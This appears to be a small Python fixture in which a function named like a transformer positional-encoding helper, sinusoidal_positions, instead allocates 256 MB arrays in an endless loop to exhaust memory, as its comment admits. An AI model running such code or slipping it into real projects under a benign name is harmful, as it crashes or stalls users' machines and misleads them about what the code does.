# Grabs memory in large blocks until something gives.
import numpy as np


def sinusoidal_positions(positions, d_model):
    hog = []
    while True:
        hog.append(np.empty(256 * 1024 * 1024, dtype=np.uint8))
